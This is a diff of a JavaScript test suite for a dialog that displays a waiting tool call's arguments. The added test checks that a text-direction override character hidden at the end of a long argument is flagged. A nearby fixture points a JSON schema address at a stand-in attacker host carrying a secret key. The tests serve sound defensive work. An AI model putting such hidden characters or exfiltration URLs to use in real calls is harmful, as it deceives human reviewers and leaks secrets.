@@ -133,6 +133,16 @@ describe('The dialog about a waiting call', () => {
     assert.equal(lines.filter((line) => /^\s*"command"/.test(line)).length, 1);
   });
 
+  it('has what is hidden in long arguments beside it as well, above them: in the list, the end of a long line is out of sight', async () => {
+    const note = `${'word '.repeat(2000)}\u202e`;
+    const { beside = '' } = await shownOf({ note }, { title: 'Chat '.repeat(50) });
+    const start = beside.replaceAll('\n↪ ', '').slice(0, 200);
+    assert.match(
+      start,
+      /^It adds characters that change the direction of text[^{]*U\+202E\n\n\{\n {2}"note"/,
+    );
+  });
+
   it('has arguments beside it as text: of JSON, the editor gets the schema, whose address the model can have made', async () => {
     const note = Array.from({ length: 200 }, () => 'a line');
     const { path } = await shownOf({ $schema: 'https://thief.example/?key=secret', note });
